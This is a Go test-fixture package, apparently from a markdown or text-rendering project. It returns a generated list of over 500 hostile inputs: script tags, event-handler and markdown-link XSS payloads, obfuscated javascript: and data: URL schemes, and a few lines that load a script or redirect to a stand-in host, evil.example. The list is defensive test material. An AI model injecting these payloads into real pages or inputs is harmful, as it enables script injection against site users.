// Package texttest has what strangers type, for the tests of everything that shows it or carries it.
package texttest

import "strings"

// Hostile are messages that try to become a program: more than 500.
func Hostile() []string {
	out := []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
		`<svg><script>alert&#40;1)</script>`, `<iframe src="javascript:alert(1)">`, `<body onload=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
		`<math><mtext></table></math><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<style>@import "//evil.example"</style>`, `<link rel=stylesheet href=//evil.example>`, `<meta http-equiv=refresh content=0;url=//evil.example>`,
		`<base href=//evil.example>`, `<form action=//evil.example><input type=submit>`, `<object data=javascript:alert(1)>`, `<embed src=//evil.example>`,
		`"><img src=x onerror=alert(1)>`, `'-alert(1)-'`, `javascript:alert(1)`, `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
		`<?xml-stylesheet href="javascript:alert(1)"?>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<isindex action=javascript:alert(1)>`,
		"<img\tsrc=x\tonerror=alert(1)>", "<img/src=`x`onerror=alert(1)>", "<scr\x00ipt>alert(1)</scr\x00ipt>", `\<script>alert(1)</script>`,
		"```<script>\nalert(1)\n```", "`<script>alert(1)</script>`", "```js\" onmouseover=\"alert(1)\nx\n```", "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>",
		"# <svg onload=alert(1)>", "[<img src=x onerror=alert(1)>](https://a.example)", "[a](https://a.example \"\\\" onmouseover=alert(1)\")",
		`[a](https://a.example"onmouseover="alert(1))`, `<https://a.example"onclick="alert(1)>`, `https://a.example/"onmouseover="alert(1)`, `https://a.example/'><script>alert(1)</script>`,
		"[a]: javascript:alert(1)\n[a]", "[a][b]\n\n[b]: javascript:alert(1)", "![a](javascript:alert(1))", "![a\"onerror=\"alert(1)](https://a.example/x)", "[![a](javascript:alert(1))](javascript:alert(2))",
		"<javascript:alert(1)>", "<data:text/html,<script>alert(1)</script>>", "<vbscript:msgbox(1)>", "[x](<javascript:alert(1)>)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "\u202e<script>\u202c",
	}
	// The ways to write a scheme that is not allowed, in each place for an address.
	schemes := []string{"javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", " javascript:alert(1)",
		"\x01javascript:alert(1)", "\u200bjavascript:alert(1)", "\ufeffjavascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)",
		"&#x6A;avascript:alert(1)", "%6Aavascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "j\\avascript:alert(1)", "javascript\\:alert(1)", "javascript://a.example/%0aalert(1)",
		"data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,<svg/onload=alert(1)>", "vbscript:msgbox(1)", "livescript:x", "mocha:x",
		"blob:https://a.example/1", "filesystem:https://a.example/1", "view-source:https://a.example", "feed:javascript:alert(1)", "jar:https://a.example!/", "file:///etc/passwd", "about:blank",
		"//evil.example", "///evil.example", "\\\\evil.example", "/\\evil.example", "https:evil.example", "http:/evil.example", "https://a.example\\@evil.example", "https://a.example/\u202etxt.exe", "intent://x#Intent;end", "tel:1", "sms:1", "ws://evil.example"}
	places := []string{"[x](%)", "[x](<%>)", "<%>", "![x](%)", "[x](% \"t\")", "[*x*](%)", "> [x](%)", "- [x](%)", "**[x](%)**", "[x]\n\n[x]: %", "%"}
	for _, s := range schemes {
		for _, p := range places {
			out = append(out, strings.Replace(p, "%", s, 1))
		}
	}
	return out
}
